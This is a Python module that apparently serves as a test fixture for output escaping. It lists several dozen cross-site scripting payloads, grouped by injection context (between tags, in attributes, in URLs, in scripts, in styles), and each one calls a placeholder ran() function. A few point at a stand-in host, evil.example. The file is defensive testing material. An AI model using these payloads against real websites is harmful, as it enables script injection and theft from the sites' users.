"""Texts that would run as a script where somebody forgot to escape; each calls `ran()` in a way of its own (S-5)."""

# By the place in a page that each is made for: between tags, in an attribute, in an address, in a script, in a style.
BETWEEN = (
    "<script>ran()</script>", "<ScRiPt>ran()</sCrIpT>", "<script src=data:,ran()></script>", "<script>ran()//",
    "<img src=x onerror=ran()>", "<IMG SRC=x OnErRoR=ran()>", "<img/src=x/onerror=ran()>", "<img src=x\tonerror=ran()>",
    "<svg onload=ran()>", "<svg/onload=ran()//", "<svg><script>ran()</script></svg>", "<svg><animate onbegin=ran()>",
    "<body onload=ran()>", "<input autofocus onfocus=ran()>", "<select autofocus onfocus=ran()>",
    "<details open ontoggle=ran()>x</details>", "<video><source onerror=ran()></video>", "<audio src=x onerror=ran()>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>", "<iframe src=javascript:parent.ran()></iframe>",
    "<object data=javascript:ran()></object>", "<embed src=javascript:ran()>", "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:ran()'>", "<link rel=stylesheet href=https://evil.example/x>",
    "<math><maction actiontype=statusline xlink:href=javascript:ran()>x</maction></math>",
    "<form action=javascript:ran()><button>x</button></form>", "<marquee onstart=ran()>x</marquee>",
    "<template><script>ran()</script></template>", "<noscript><p title='</noscript><img src=x onerror=ran()>'>",
    "</title><script>ran()</script>", "</textarea><script>ran()</script>", "</script><script>ran()</script>",
    "</style><img src=x onerror=ran()>", "--><script>ran()</script><!--", "]]><script>ran()</script>",
    "<bdi></bdi><img src=x onerror=ran()>", "<p hx-get=/x hx-trigger=load hx-on::load=ran()>",
    "<div hx-on:click=ran() data-hx-on--load=ran()>x</div>", "<a href=javascript:ran()>x</a>",
)  # fmt: skip
IN_ATTRIBUTES = (
    '" onmouseover="ran()', "' onmouseover='ran()", '" autofocus onfocus="ran()', "' autofocus onfocus='ran()",
    '"><script>ran()</script>', "'><script>ran()</script>", '" style="animation-name:x" onanimationstart="ran()',
    "` onerror=ran() `", '"/><svg onload=ran()>',
)  # fmt: skip
IN_ADDRESSES = (
    "javascript:ran()", "JaVaScRiPt:ran()", "java\tscript:ran()", "data:text/html,<script>ran()</script>",
    "vbscript:ran()", "//evil.example/<script>ran()</script>",
)  # fmt: skip
IN_SCRIPTS = (
    "';ran();//",
    '";ran();//',
    "\\';ran();//",
    "${ran()}",
    "{{ran()}}",
    "{% now 'ran()' %}",
    "\u2028ran()\u2028",
)
IN_STYLES = ("x;background:url(javascript:ran())", "expression(ran())")
PAYLOADS = BETWEEN + IN_ATTRIBUTES + IN_ADDRESSES + IN_SCRIPTS + IN_STYLES
# Without their tags and quotes these are plain text, which a page may well show as it is.
MARKED = tuple(payload for payload in PAYLOADS if "<" in payload or '"' in payload)
